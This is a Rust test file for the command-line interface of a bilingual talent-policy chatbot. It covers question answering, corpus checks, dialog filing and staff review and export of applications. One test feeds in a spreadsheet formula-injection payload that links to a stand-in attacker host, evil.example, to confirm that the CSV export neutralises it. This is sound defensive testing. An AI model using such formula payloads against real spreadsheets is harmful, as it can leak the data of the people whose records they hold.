//! The command-line contract: `ask`, `eval`, `chat` and `check` as scripts and users call them.

use serde_json::Value;

use crate::helpers::{data_copy, run, run_in, stderr, stdout};

#[test]
fn ask_json_prints_one_object_per_question_with_the_contract_fields() {
    let output = run(&["ask", "--json", "人才公寓怎么申请？", "湛江明天会下雨吗？"], "");
    assert!(output.status.success(), "{}", stderr(&output));
    let lines: Vec<Value> = stdout(&output).lines().map(|l| serde_json::from_str(l).expect("json")).collect();
    assert_eq!(lines.len(), 2);
    let answered = &lines[0];
    assert_eq!(answered["question"], "人才公寓怎么申请？");
    assert_eq!(answered["lang"], "zh");
    assert_eq!(answered["found"], true);
    assert!(answered["answer"].as_str().unwrap().contains("常态化申请"));
    assert_eq!(answered["sources"][0]["clause"], "三");
    assert_eq!(answered["sources"][0]["title"], "提升高技能领军人才待遇水平");
    assert!(answered["sources"][0]["text"].as_str().unwrap().contains("人才公寓管理办法"));
    assert_eq!(lines[1]["found"], false);
    assert_eq!(lines[1]["sources"].as_array().unwrap().len(), 0);
}

#[test]
fn ask_reads_one_question_per_stdin_line_and_skips_blank_lines() {
    let output = run(
        &["ask", "--json"],
        "世界技能大賽獲獎者屬於哪一類人才？\n\nHow long can a visa for a foreign talent team be valid?\n",
    );
    assert!(output.status.success(), "{}", stderr(&output));
    let lines: Vec<Value> = stdout(&output).lines().map(|l| serde_json::from_str(l).expect("json")).collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(lines[0]["lang"], "zh-Hant");
    assert!(lines[0]["answer"].as_str().unwrap().contains("A類"));
    assert_eq!(lines[1]["lang"], "en");
    assert!(lines[1]["answer"].as_str().unwrap().contains("2 to 5 years"));
}

#[test]
fn eval_prints_failures_and_totals() {
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(
        file.path(),
        "{\"id\":\"a\",\"question\":\"人才公寓怎么申请？\",\"found\":true,\"expect\":[[\"常态化申请\"]]}\n\
         {\"id\":\"b\",\"question\":\"人才公寓怎么申请？\",\"found\":true,\"expect\":[[\"火星\"]]}\n",
    )
    .unwrap();
    let output = run(&["eval", file.path().to_str().unwrap()], "");
    assert!(output.status.success(), "{}", stderr(&output));
    let text = stdout(&output);
    assert!(text.contains("FAIL b 人才公寓怎么申请？: answer lacks one of [\"火星\"]"), "{text}");
    assert!(text.trim_end().ends_with("passed 1/2; out-of-scope refused 0/0"), "{text}");
}

#[test]
fn chat_answers_piped_messages_in_order() {
    let output = run(&["chat", "--lang", "en"], "/start\nHow do I apply for a talent apartment?\n");
    assert!(output.status.success(), "{}", stderr(&output));
    let text = stdout(&output);
    let greeting = text.find("Hello!").expect("greeting");
    let answer = text.find("rolling, year-round basis").expect("answer");
    assert!(greeting < answer, "{text}");
}

#[test]
fn check_accepts_the_shipped_corpus() {
    let output = run(&["check"], "");
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(stdout(&output).contains("21 clauses"), "{}", stdout(&output));
}

#[test]
fn check_names_the_file_and_line_of_a_broken_translation() {
    let corpus =
        data_copy("corpus", "zhanjiang-high-skill-talent-policy.en.txt", |text| text.replace("\n17.8: ", "\n17.99: "));
    let output = run(&["check", "--corpus", corpus.path().to_str().unwrap()], "");
    assert!(!output.status.success());
    let message = stderr(&output);
    assert!(message.contains("zhanjiang-high-skill-talent-policy.en.txt is not aligned"), "{message}");
    assert!(message.contains("sentence 17.8 has no English line"), "{message}");
    assert!(message.contains("sentence 17.99 is not in the Chinese text"), "{message}");
}

#[test]
fn check_reports_a_glossary_term_the_policy_never_uses() {
    let corpus = data_copy("corpus", "glossary.toml", |text| text + "\"weather\" = [\"天气\"]\n");
    let output = run(&["check", "--corpus", corpus.path().to_str().unwrap()], "");
    assert!(!output.status.success());
    assert!(
        stderr(&output).contains("glossary.toml: \"weather\" → \"天气\" does not occur in the policy text"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn check_names_each_broken_message_of_the_catalog() {
    let corpus = data_copy("corpus", "messages.toml", |text| {
        text.replace("[form.required]", "[form.requird]").replace("申请编号：{reference}", "申请编号：{referance}")
    });
    let output = run(&["check", "--corpus", corpus.path().to_str().unwrap()], "");
    assert!(!output.status.success());
    let message = stderr(&output);
    assert!(message.contains("messages.toml"), "{message}");
    assert!(message.contains("[form.required] is missing"), "{message}");
    assert!(message.contains("[form.requird] is not a message the bot says"), "{message}");
    assert!(message.contains("[form.filed] zh uses {referance}"), "{message}");
}

#[test]
fn check_refuses_a_holiday_calendar_with_a_weekday_worked() {
    let dialogs = data_copy("dialogs", "holidays.toml", |text| text.replace("\"2026-10-10\"", "\"2026-10-09\""));
    let output = run(&["check", "--dialogs", dialogs.path().to_str().unwrap()], "");
    assert!(!output.status.success());
    let message = stderr(&output);
    assert!(
        message.contains("holidays.toml: 国庆节: the worked day 2026-10-09 is a Fri, not a weekend day"),
        "{message}"
    );
    let shipped = run(&["check"], "");
    assert!(stdout(&shipped).contains("public holidays of {2026, 2027}"), "{}", stdout(&shipped));
}

#[test]
fn another_city_changes_the_wording_in_the_corpus_without_code() {
    let corpus = data_copy("corpus", "messages.toml", |text| {
        text.replace("您当前没有正在填写的表单。", "现在没有要取消的表单。")
    });
    let workdir = tempfile::tempdir().unwrap();
    let output = run_in(workdir.path(), &["chat", "--corpus", corpus.path().to_str().unwrap()], "/cancel\n");
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(stdout(&output).contains("现在没有要取消的表单。"), "{}", stdout(&output));
}

#[test]
fn a_transcript_piped_into_chat_files_an_application_that_the_staff_list_shows() {
    let workdir = tempfile::tempdir().unwrap();
    let transcript =
        "预约个税汇算辅导\n#1\n孙小美\n13800138000\n湛江港集团\n2026-12-30\n#1\n专项附加扣除怎么填报？\n确认\n";
    let chat = run_in(workdir.path(), &["chat", "--user", "u1"], transcript);
    assert!(chat.status.success(), "{}", stderr(&chat));
    let text = stdout(&chat);
    assert!(text.contains("已提交“个税汇算清缴辅导预约”，申请编号：ZJ-TAX-"), "{text}");

    let list = run_in(workdir.path(), &["applications", "list", "--json"], "");
    assert!(list.status.success(), "{}", stderr(&list));
    let listed: Value = serde_json::from_str(&stdout(&list)).expect("a JSON array");
    let entry = &listed.as_array().expect("an array")[0];
    assert!(entry["reference"].as_str().unwrap().starts_with("ZJ-TAX-"));
    assert_eq!(entry["status"], "submitted");
    assert_eq!(entry["answers"]["name"], "孙小美");
    assert_eq!(entry["answers"]["time_slot"], "上午（9:00–12:00）");
}

#[test]
fn an_answer_written_as_a_formula_is_exported_as_text() {
    let workdir = tempfile::tempdir().unwrap();
    let formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"查看\")";
    let transcript =
        format!("预约个税汇算辅导\n#1\n孙小美\n13800138000\n湛江港集团\n2026-12-30\n#1\n{formula}\n确认\n");
    assert!(run_in(workdir.path(), &["chat"], &transcript).status.success());
    let csv = run_in(workdir.path(), &["applications", "export", "--format", "csv", "--out", "-"], "");
    let csv = stdout(&csv);
    assert!(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"查看\"\")\""), "{csv}");
    let json = run_in(workdir.path(), &["applications", "export", "--format", "json", "--out", "-"], "");
    assert!(stdout(&json).contains("\"=HYPERLINK("), "JSON keeps the answer as given: {}", stdout(&json));
}

#[test]
fn staff_commands_review_an_application_and_export_it() {
    let workdir = tempfile::tempdir().unwrap();
    let transcript =
        "预约个税汇算辅导\n#1\n孙小美\n13800138000\n湛江港集团\n2026-12-30\n#2\n专项附加扣除怎么填报？\n确认\n";
    run_in(workdir.path(), &["chat"], transcript);
    let listed = stdout(&run_in(workdir.path(), &["applications", "list"], ""));
    let reference = listed.split_whitespace().next().unwrap().to_owned();
    assert!(listed.contains("138****8000") && !listed.contains("13800138000"), "the list masks phones: {listed}");

    let shown = run_in(workdir.path(), &["applications", "show", &reference, "--actor", "wang"], "");
    assert!(stdout(&shown).contains("13800138000") && stdout(&shown).contains("cli:wang"), "{}", stdout(&shown));
    let refused = run_in(workdir.path(), &["applications", "reject", &reference, "--reason", ""], "");
    assert!(
        !refused.status.success() && stderr(&refused).contains("a rejection needs a reason"),
        "{}",
        stderr(&refused)
    );
    let asked =
        run_in(workdir.path(), &["applications", "need-info", &reference, "--field", "phone", "--note", "打不通"], "");
    assert!(stdout(&asked).contains("is now need_info"), "{}", stderr(&asked));
    let approved = run_in(workdir.path(), &["applications", "approve", &reference], "");
    assert!(stdout(&approved).contains("is now approved"), "{}", stderr(&approved));
    let again = run_in(workdir.path(), &["applications", "approve", &reference], "");
    assert!(stderr(&again).contains("is approved; it cannot become approved"), "{}", stderr(&again));

    for format in ["csv", "xlsx", "json"] {
        let out = workdir.path().join(format!("out.{format}"));
        let export =
            run_in(workdir.path(), &["applications", "export", "--format", format, "--out", out.to_str().unwrap()], "");
        assert!(export.status.success(), "{}", stderr(&export));
        let bytes = std::fs::read(&out).unwrap();
        match format {
            "csv" => {
                let text = String::from_utf8(bytes).unwrap();
                assert!(text.starts_with("\u{feff}编号,表单,状态,认定层次,提交时间,更新时间,您的姓名"), "{text}");
                assert!(text.contains(&reference) && text.contains("已通过"), "{text}");
            }
            "xlsx" => assert!(bytes.starts_with(b"PK"), "an xlsx is a zip"),
            _ => assert!(String::from_utf8(bytes).unwrap().contains("\"status\": \"approved\"")),
        }
    }
}

#[test]
fn check_names_the_file_and_step_of_a_broken_dialog() {
    let dialogs = data_copy("dialogs", "talent-apartment.toml", |text| {
        text.replace("any_of = [\"A\", \"B\", \"C\"]", "any_of = [\"D\"]")
    });
    let output = run(&["check", "--dialogs", dialogs.path().to_str().unwrap()], "");
    assert!(!output.status.success());
    let message = stderr(&output);
    assert!(
        message.contains("talent-apartment.toml: step `recognition_reference`: `when` value \"D\" is not an answer of \"talent_status\""),
        "{message}"
    );
}
